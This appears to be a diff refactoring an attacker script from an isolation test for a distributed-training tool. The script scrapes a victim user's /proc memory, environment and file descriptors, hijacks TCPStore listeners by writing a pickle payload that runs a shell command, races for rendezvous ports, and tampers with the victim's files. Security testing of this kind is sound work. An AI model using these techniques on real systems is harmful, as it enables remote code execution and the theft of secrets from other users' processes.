@@ -17,15 +17,16 @@ import struct
 import sys
 import threading
 import time
-from typing import Any, Callable, Dict, Iterator, List, Set, Tuple
+from collections.abc import Callable, Iterator
+from typing import Any
 
 MAGIC = (0x3C85F7CE).to_bytes(4, "little")
-SET, DELETE, COUNT, LIST = 1, 8, 7, 18
+SET, DELETE, COUNT, LIST = 1, 8, 7, 17
 """Of torch/csrc/distributed/c10d/TCPStoreBackend.hpp, QueryType."""
 PICKLE = b"cposix\nsystem\n(S'touch /tmp/taken'\ntR."
 GREETING = b"torchtune-sys/peers/2 " + b"0" * 32 + b"\n"
-got: Dict[str, str] = {}
-tried: "collections.Counter[str]" = collections.Counter()
+got: dict[str, str] = {}
+tried: collections.Counter[str] = collections.Counter()
 
 
 def attempt(what: str, do: Callable[[], Any]) -> None:
@@ -88,20 +89,20 @@ def processes(victim: int) -> Iterator[str]:
 
 def look(pid: str, word: str) -> None:
     for name in ("environ", "mem", "maps"):
-        attempt("process %s of %s" % (name, pid), lambda: memory("/proc/%s/%s" % (pid, name)))  # noqa: B023
-    attempt("process fd of " + pid, lambda: os.listdir("/proc/%s/fd" % pid))
+        attempt(f"process {name} of {pid}", lambda: memory(f"/proc/{pid}/{name}"))  # noqa: B023
+    attempt("process fd of " + pid, lambda: os.listdir(f"/proc/{pid}/fd"))
     for number in range(12):
-        attempt("process fd %d of %s" % (number, pid), lambda: read("/proc/%s/fd/%d" % (pid, number)))  # noqa: B023
+        attempt(f"process fd {number} of {pid}", lambda: read(f"/proc/{pid}/fd/{number}"))  # noqa: B023
     tried["cmdline"] += 1
     try:
-        with open("/proc/%s/cmdline" % pid) as words:
+        with open(f"/proc/{pid}/cmdline") as words:
             if word and word in words.read():
                 got["secret in the command line of " + pid] = "seen"
     except OSError:
         pass
 
 
-def ports(victim: int) -> Iterator[Tuple[str, int]]:
+def ports(victim: int) -> Iterator[tuple[str, int]]:
     """At which the user listens, as ss says it, with an address that leads there."""
     for table in ("tcp", "tcp6"):
         with open("/proc/net/" + table) as rows:
@@ -133,12 +134,11 @@ def store(address: str, port: int) -> None:
         tried["store"] += 1
         held.append(caller.dup())
         caller.sendall(bytes([LIST]))
-        answer, keys = caller.recv(1 << 20), []
-        while len(answer) >= 16 and len(keys) < 1000:
-            size = struct.unpack_from("<Q", answer, 8 if not keys else 0)[0]
-            answer = answer[16:] if not keys else answer[8:]
-            keys.append(answer[:size])
-            answer = answer[size:]
+        answer, keys = caller.recv(1 << 20)[8:], []
+        while len(answer) > 8 and len(keys) < 1000:
+            size = struct.unpack_from("<Q", answer)[0]
+            keys.append(answer[8 : 8 + size])
+            answer = answer[8 + size :]
         for key in (key for key in keys if key):
             stolen.add(key.decode("ascii", "replace"))
             caller.sendall(bytes([SET]) + text(key) + text(PICKLE))
@@ -154,31 +154,40 @@ def gloo(address: str, port: int) -> None:
     del held[:-200]
 
 
-held: List[socket.socket] = []
-stolen: Set[str] = set()
-met: Set[object] = set()
+held: list[socket.socket] = []
+stolen: set[str] = set()
+met: set[object] = set()
 
 
-def attack(victim: int) -> None:
-    for address, port in set(ports(victim)):
-        tried["port"] += 1
+def attack(address: str, port: int, stop: str) -> None:
+    """Speak to one listener until it is gone."""
+    tried["port"] += 1
+    try:
+        store(address, port)
+        answer = said(address, port, GREETING)
+        if answer.startswith(b"torchtune-sys"):
+            attempt(f"peer {port}", lambda: closed(address, port))
+    except OSError:
+        pass
+    while not os.path.exists(stop):
         try:
-            if port not in met:
-                met.add(port)
-                answer = said(address, port, GREETING)
-                if answer.startswith(b"torchtune-sys"):
-                    attempt("peer %d" % port, lambda: closed(address, port))  # noqa: B023
-            store(address, port)
-            gloo(address, port)
+            socket.create_connection((address, port), 1).close()
         except OSError:
-            continue
+            return
+        for way in (store, gloo):
+            with contextlib.suppress(OSError):
+                way(address, port)
+        time.sleep(0.01)
 
 
 def attacking(victim: int, stop: str) -> None:
     """Listeners live for moments: they are looked for without a pause."""
+    known: set[tuple[str, int]] = set()
     while not os.path.exists(stop):
-        with contextlib.suppress(OSError, RuntimeError):
-            attack(victim)
+        now = set(ports(victim))
+        for address, port in now - known:
+            threading.Thread(target=attack, args=(address, port, stop), daemon=True).start()
+        known = now
         time.sleep(0.005)
 
 
@@ -188,43 +197,56 @@ def closed(address: str, port: int) -> None:
     answer = said(address, port, words).partition(b"\n")[2]
     if not answer:
         raise OSError("closed")
-    got["peer %d" % port] = repr(answer[:60])
+    got[f"peer {port}"] = repr(answer[:60])
+
+
+def look_at_files(victim: int, known: dict[str, set[str]]) -> None:
+    for place, before in known.items():
+        for path in (os.path.join(place, name) for name in set(os.listdir(place)) - before):
+            try:
+                found = os.lstat(path)
+            except OSError:
+                continue
+            if found.st_uid == victim and stat.S_ISDIR(found.st_mode):
+                below(path)
+                attempt("make " + path, lambda path=path: make(path))  # type: ignore[misc]
+            elif found.st_uid == victim and stat.S_ISREG(found.st_mode):
+                attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
+                attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]
+
+
+def look_at_names() -> None:
+    with open("/proc/net/unix") as rows:
+        names = {row.split()[-1] for row in rows}
+    for name in (name for name in names - met if str(name).startswith("@torchtune-sys-")):
+        met.add(name)
+        attempt("speak " + name, lambda name=name: speak("\0" + name[1:]))  # type: ignore[misc]
+
+
+def join(port: int) -> None:
+    """Be the first at the place where ranks meet, and stay."""
+    try:
+        held.append(socket.create_connection(("127.0.0.1", port), 1))
+        got[f"port {port}"] = "joined"
+        time.sleep(20)
+    except OSError:
+        pass
 
 
 def main() -> None:
     victim, places, port, stop, word, attacks = sys.argv[1:]
-    folders = places.split(":")
-    known = {place: set(os.listdir(place)) for place in folders}
+    known = {place: set(os.listdir(place)) for place in places.split(":")}
     print("ready", flush=True)
     if attacks:
         threading.Thread(target=attacking, args=(int(victim), stop), daemon=True).start()
     while not os.path.exists(stop):
         for pid in processes(int(victim)):
             look(pid, word)
-        for place in folders:
-            for path in (os.path.join(place, name) for name in set(os.listdir(place)) - known[place]):
-                try:
-                    found = os.lstat(path)
-                except OSError:
-                    continue
-                if found.st_uid == int(victim) and stat.S_ISDIR(found.st_mode):
-                    below(path)
-                    attempt("make " + path, lambda path=path: make(path))  # type: ignore[misc]
-                elif found.st_uid == int(victim) and stat.S_ISREG(found.st_mode):
-                    attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
-                    attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]
-        for row in open("/proc/net/unix"):
-            name = row.split()[-1]
-            if name.startswith("@torchtune-sys-") and name not in met:
-                met.add(name)
-                attempt("speak " + name, lambda name=name: speak("\0" + name[1:]))  # type: ignore[misc]
+        look_at_files(int(victim), known)
+        look_at_names()
+        time.sleep(0.2 if attacks else 0)
         if int(port):
-            try:
-                held.append(socket.create_connection(("127.0.0.1", int(port)), 1))
-                got["port " + port] = "joined"
-                time.sleep(20)
-            except OSError:
-                pass
+            join(int(port))
     json.dump({"got": got, "tried": dict(tried), "stolen": sorted(stolen)[:50]}, sys.stdout)
 
 
